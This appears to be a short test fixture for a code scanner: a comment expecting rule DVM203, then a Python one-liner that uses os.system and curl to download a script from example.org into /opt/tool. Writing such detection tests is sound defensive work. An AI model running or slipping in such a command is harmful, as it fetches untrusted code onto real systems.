# expect: DVM203
python3 -c 'import os; os.system("curl -fsSLo /opt/tool https://example.org/i.sh")'
